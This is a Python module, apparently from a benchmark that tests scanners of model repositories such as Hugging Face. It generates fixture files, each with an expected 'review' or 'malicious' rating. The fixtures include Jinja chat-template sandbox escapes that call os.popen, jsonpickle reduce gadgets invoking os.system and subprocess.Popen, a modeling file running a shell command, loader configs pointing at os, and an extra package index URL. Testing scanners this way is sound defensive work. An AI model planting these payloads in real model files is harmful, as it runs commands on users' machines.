"""Files of model repositories that name code or hold templates: Hugging Face and its like.

Source: the loaders' documentation; Jinja's sandbox documentation for the templates.
"""

from __future__ import annotations

import json
from typing import Any

from bench.scanner_attacks.techniques import COMMAND, URL, Family

FAMILY = Family("model repositories")
_CODE = f"import os\nos.system('{COMMAND}')\n\n\nclass Net:\n    pass\n"
_TEMPLATE = (
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
    "{{ x()._module.__builtins__['__import__']('os').popen('" + COMMAND + "').read() }}"
    "{% endif %}{% endfor %}"
)
TEMPLATES = {
    "subclasses": _TEMPLATE,
    "globals": "{{ cycler.__init__.__globals__.os.popen('" + COMMAND + "').read() }}",
    "attr-filter": "{{ ''|attr('__cl'~'ass__')|attr('__mro__') }}",
    "namespace": "{{ namespace.__init__.__globals__['__builtins__']['eval']('1') }}",
    "escaped": "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "loop-context": "{% for m in messages %}{{ loop._undefined.__init__.__globals__ }}{% endfor %}",
}

_HUB: dict[str, tuple[str, Any, str]] = {
    "hf-auto-map-own": ("config.json", {"auto_map": {"AutoModel": "modeling_x.Net"}}, "review"),
    "hf-auto-map-elsewhere": (
        "config.json",
        {"model_type": "llama", "auto_map": {"AutoModel": "bench/invalid--modeling.Net"}},
        "review",
    ),
    "hf-tokenizer-auto-map": (
        "tokenizer_config.json",
        {"auto_map": {"AutoTokenizer": ["tokenization_x.Own", None]}},
        "review",
    ),
    "hf-custom-pipeline": (
        "config.json",
        {"custom_pipelines": {"x": {"impl": "pipeline.Own", "pt": ["AutoModel"]}}},
        "review",
    ),
    "hf-custom-generate": (
        "generation_config.json",
        {"custom_generate": "bench/invalid"},
        "review",
    ),
    "hf-kernel-from-hub": ("config.json", {"_attn_implementation": "bench/invalid:f"}, "review"),
    "sentence-transformers-type": (
        "modules.json",
        [{"idx": 0, "name": "0", "path": "", "type": "os.system"}],
        "malicious",
    ),
    "sentence-transformers-own": (
        "modules.json",
        [{"idx": 0, "name": "0", "path": "", "type": "modeling_x.Own"}],
        "review",
    ),
    "diffusers-own-pipeline": (
        "model_index.json",
        {
            "_class_name": ["pipeline", "Own"],
            "_diffusers_version": "0.30.0",
            "unet": ["own_unet", "Net"],
        },
        "review",
    ),
    "diffusers-module-os": (
        "model_index.json",
        {"_class_name": "X", "_diffusers_version": "0.30.0", "a": ["os", "system"]},
        "review",
    ),
    "peft-base-model-traversal": (
        "adapter_config.json",
        {"auto_mapping": {"base_model_class": "Net", "parent_library": "os"}},
        "review",
    ),
    "spacy-config-callback": (
        "config.cfg",
        '[initialize]\n\n[initialize.before_init]\n@callbacks = "run_shell.v1"\n',
        "review",
    ),
    "mlflow-own-loader": (
        "MLmodel",
        "flavors:\n  python_function:\n    loader_module: own_loader\n    code: code\n",
        "review",
    ),
    "mlflow-loader-os": (
        "MLmodel",
        "flavors:\n  python_function:\n    loader_module: os\n    data: x\n",
        "review",
    ),
    "requirements-other-index": (
        "requirements.txt",
        f"--extra-index-url {URL}\nnumpy\ngit+{URL}\n",
        "review",
    ),
    "jsonpickle-reduce": (
        "model.json",
        {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [COMMAND]}]},
        "malicious",
    ),
    "jsonpickle-object": (
        "model.json",
        {"py/object": "subprocess.Popen", "args": "x"},
        "malicious",
    ),
}
for _name, (_file, _config, _least) in _HUB.items():
    FAMILY.add(
        _name,
        _file,
        lambda config=_config: config if isinstance(config, str) else json.dumps(config, indent=1),
        least=_least,
    )
FAMILY.add(
    "hf-own-code",
    make=lambda: {
        "config.json": json.dumps({"auto_map": {"AutoModel": "modeling_x.Net"}}),
        "modeling_x.py": _CODE,
    },
    file="",
    least="review",
)
for _name, _text in TEMPLATES.items():
    FAMILY.add(f"template-file-{_name}", "chat_template.jinja", lambda text=_text: text)
    FAMILY.add(
        f"template-config-{_name}",
        "tokenizer_config.json",
        lambda text=_text: json.dumps({"tokenizer_class": "X", "chat_template": text}),
    )
FAMILY.add(
    "template-in-list",
    "tokenizer_config.json",
    lambda: json.dumps(
        {"chat_template": [{"name": "default", "template": "{{ messages }}"},
                           {"name": "tool", "template": TEMPLATES["globals"]}]}
    ),
)  # fmt: skip
FAMILY.add(
    "template-include",
    "chat_template.jinja",
    lambda: "{% include '/etc/hostname' %}{% import 'x' as y %}",
    least="review",
)
